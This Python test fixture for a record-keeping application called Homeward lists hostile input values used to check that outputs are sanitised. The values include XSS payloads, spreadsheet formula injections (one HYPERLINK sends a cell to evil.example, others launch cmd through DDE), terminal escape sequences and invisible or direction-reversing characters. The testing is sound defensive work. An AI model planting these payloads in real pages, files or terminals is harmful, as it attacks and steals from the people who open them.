"""The hostile values every output is checked with, and where a test puts them.

Names and notes reach Homeward from families, partner files and the other
side's lists.  Each value below is one way such text has been used to attack
whoever reads it: a web page (script, attribute break-out, ``javascript:``
link), a spreadsheet (a cell that starts a formula), a reader's eyes (a
right-to-left override that turns text around, characters that cannot be
seen), a terminal (escape sequences, rich markup), or the software itself
(NUL, a bell, a lone carriage return, a value of 10,000 characters).

A record keeps each value twice: the raw copy exactly as received, and the
normalised fields, cleaned by :func:`homeward.services.records.clean_text`
(see ``test_storage.py`` for what cleaning does to each value).  Outputs show
the normalised fields, so what a test expects to see is ``clean_text(value)``.
"""

from __future__ import annotations

from typing import Any

import pytest

from homeward.services.records import clean_text

LONG = "Ω" + "я" * 9_998 + "Ж"
"""10,000 characters; the last one tells a value cut short from a whole one."""

HOSTILE: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "single_quote": "'><svg/onload=alert(1)>",
    "javascript_url": "javascript:alert(document.domain)",
    "hyperlink": '=HYPERLINK("https://evil.example/?leak="&A1,"Коваленко")',
    "plus": "+SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "tab_formula": "\t=1+2",
    "cr_formula": "\r=1+2",
    "rtl_override": "Коваленко\u202eокнелавок",
    "zero_width": "Кова\u200bленко\ufeff",
    "long": LONG,
    "nul": "Кова\x00ленко",
    "bell": "Кова\x07ленко",
    "escape": "\x1b[2J\x1b]0;pwned\x07Коваленко\x1b[31m",
    "lone_cr": "Коваленко\rПетренко",
    "rich_markup": "[bold red]x[/]",
}
"""Each hostile value by a short name (the name is the test id)."""

PARAMS = [pytest.param(value, id=name) for name, value in HOSTILE.items()]
"""The one parametrized set every test in this package runs over."""

NAME_LIMIT = 200
"""The longest family name a record holds (``records.family_name``)."""


def shown(value: str) -> str:
    """What an output shows of a value kept in a record's normalised fields."""
    cleaned = clean_text(value)
    assert cleaned is not None
    return cleaned


def fits_a_name(value: str) -> bool:
    return len(shown(value)) <= NAME_LIMIT


def record_fields(value: str) -> dict[str, Any]:
    """The fields of a record that carries ``value`` wherever it fits.

    Names, places and the mother's name carry it when it is short enough for
    those columns; notes and the circumstances of removal (text of any
    length) always do.  A value too long for a name is refused as a name
    (see ``test_storage.py``), so that case gets a plain family name.
    """
    fields: dict[str, Any] = {
        "given_name": "Олександр",
        "sex": "m",
        "birth_date": "2012-03-04",
        "notes": value,
        "removal_circumstances": value,
    }
    if fits_a_name(value):
        fields.update(
            family_name=value, mother_name=value, birth_place=value, removal_place=value,
            last_known_location=value,
        )  # fmt: skip
    else:
        fields["family_name"] = "Довгий"
    return fields
